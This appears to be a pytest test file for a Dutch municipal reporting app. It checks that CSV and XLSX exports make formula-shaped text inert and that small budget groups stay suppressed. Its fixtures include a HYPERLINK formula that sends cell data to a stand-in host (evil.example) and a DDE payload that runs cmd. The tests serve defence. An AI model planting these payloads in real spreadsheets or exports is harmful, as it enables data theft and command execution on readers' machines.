"""Exports that cannot be undone or turned against their reader: a formula-shaped text is inert
in the CSV and the XLSX, numbers stay numbers; a suppressed line of the verantwoording cannot be
computed from the total and the other lines, and its chart shows it as suppressed, not zero."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from doorbraak.audit.models import Verwerking
from doorbraak.casussen import services
from doorbraak.organisaties.models import Rol
from doorbraak.rapportage import privacy, rapporten, tabellen
from doorbraak.rapportage.tabellen import GELD, GETAL, Kolom, Rapport, Tabel
from doorbraak.rapportage.verantwoording import Verantwoordingsregel

FORMULE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
GEVAARLIJK = [FORMULE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", "\t=1+1", "\r=1+1"]


def _rapport() -> Rapport:
    return Rapport(
        FORMULE,
        "-periode",
        [
            Tabel(
                "=titel",
                [Kolom("=kolom"), Kolom("Aantal", GETAL), Kolom("Bedrag", GELD)],
                rijen=[[tekst, 7, Decimal("-12.50")] for tekst in GEVAARLIJK],
                toelichting="=toelichting",
            )
        ],
    )


def test_csv_maakt_elke_formuletekst_onschadelijk_en_laat_getallen_staan():
    tekst = tabellen.naar_csv(_rapport()).decode("utf-8-sig")
    cellen = [c for rij in csv.reader(io.StringIO(tekst), delimiter=";") for c in rij]
    teksten = [c for c in cellen if c and c not in ("7", "-12.50")]
    assert teksten, cellen
    for cel in teksten:
        assert not cel.startswith(tabellen.FORMULETEKENS), cel
    assert f"'{FORMULE}" in cellen
    assert "-12.50" in cellen and "7" in cellen  # numbers, negative ones too, untouched


def test_xlsx_slaat_formuletekst_op_als_tekst_nooit_als_formule():
    boek = load_workbook(io.BytesIO(tabellen.naar_xlsx(_rapport())))
    cellen = [c for blad in boek.worksheets for rij in blad.iter_rows() for c in rij]
    assert not [c.coordinate for c in cellen if c.data_type == "f"]
    hyperlink = next(c for c in cellen if c.value == FORMULE)
    assert hyperlink.data_type == "s"  # shown as typed, never evaluated
    bedragen = [c for c in cellen if c.value == -12.5]
    assert bedragen and all(c.data_type == "n" for c in bedragen)


@pytest.mark.django_db
def test_knelpunt_met_formule_is_inert_in_de_echte_export(
    client, gemeente, regisseur, maak_casus, maak_medewerker
):
    for i in range(5):
        casus = maak_casus(regisseur, naam=f"Familie {i}")
        services.doorbraakplan_opslaan(
            door=regisseur,
            casus_id=casus.pk,
            invoer=services.PlanInvoer(
                doorbraak="d",
                knelpunten=[
                    {"omschrijving": FORMULE, "regeling": "=HYPERLINK(1)", "artikel": "@SUM(1)",
                     "soort": "wet_regelgeving"}
                ],
            ),
        )  # fmt: skip
    client.force_login(maak_medewerker(gemeente, Rol.BELEID, username="beleid"))
    voor = Verwerking.objects.filter(object_type="rapportage_export").count()
    boek = load_workbook(io.BytesIO(client.get("/rapportages/knelpunten?formaat=xlsx").content))
    cellen = [c for blad in boek.worksheets for rij in blad.iter_rows() for c in rij]
    assert not [c.coordinate for c in cellen if c.data_type == "f"]
    assert any(c.value == "=HYPERLINK(1)" and c.data_type == "s" for c in cellen)
    tekst = client.get("/rapportages/knelpunten?formaat=csv").content.decode("utf-8-sig")
    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert ["'=HYPERLINK(1)", "'@SUM(1)", "5", "5", "5", "0"] in rijen
    # Every export is in the processing log.
    assert Verwerking.objects.filter(object_type="rapportage_export").count() == voor + 2


def _regel(naam, huishoudens, bedrag):
    return Verantwoordingsregel(
        naam, plafond=Decimal("10000.00"), toegezegd=Decimal(bedrag), betaald=Decimal(bedrag),
        beschikbaar=Decimal("10000.00") - Decimal(bedrag), huishoudens=huishoudens,
        casussen=huishoudens,
    )  # fmt: skip


def test_verantwoording_een_kleine_doelgroep_is_niet_terug_te_rekenen_uit_het_totaal():
    regels = [_regel("A", 2, "900.00"), _regel("B", 12, "8000.00"), _regel("C", 7, "3000.00")]
    totaal = _regel("Totaal", 21, "11900.00")
    rapport = rapporten.verantwoordingsrapport([*regels, totaal], 2026)
    budget = {r[0]: r for r in rapport.tabellen[0].rijen}
    assert budget["A"][3] == privacy.ONDERDRUKT and budget["A"][5] == privacy.ONDERDRUKT
    # Without a second hidden line, A's 900 would be 11,900 − 8,000 − 3,000.
    assert budget["C"][3] == privacy.AANVULLEND_ONDERDRUKT  # the smallest other line
    assert budget["B"][3] == Decimal("8000.00") and budget["Totaal"][3] == Decimal("11900.00")
    # The same in every table built from these lines.
    for tabel in rapport.tabellen[1:]:
        rijen = {r[0]: r for r in tabel.rijen}
        assert set(rijen["A"][1:]) == {privacy.ONDERDRUKT}
        assert set(rijen["C"][1:]) == {privacy.AANVULLEND_ONDERDRUKT}
    # The chart labels the hidden bars instead of drawing them as zero.
    ((_titel, svg),) = rapport.grafieken
    assert svg.count("onderdrukt") == 4  # toegezegd and betaald of A and C


def test_aanvullend_onderdrukt_ook_op_scherm_en_in_de_api():
    from django.template.loader import render_to_string

    from doorbraak.rapportage.api import als_json

    regels = [_regel("A", 2, "900.00"), _regel("B", 12, "8000.00"), _regel("C", 7, "3000.00")]
    rapport = rapporten.verantwoordingsrapport([*regels, _regel("Totaal", 21, "11900.00")], 2026)
    html = render_to_string("web/rapport_tabellen.html", {"rapport": rapport})
    assert "&lt;5</abbr>" in html and ">x</abbr>" in html
    assert ">€ 3.000,00<" not in html and ">€ 900,00<" not in html and ">€ 8.000,00<" in html
    budget = {r[0]: r for r in als_json(rapport)["tabellen"][0]["rijen"]}
    assert budget["A"][3] == "<5" and budget["C"][3] == "x" and budget["B"][3] == "8000.00"
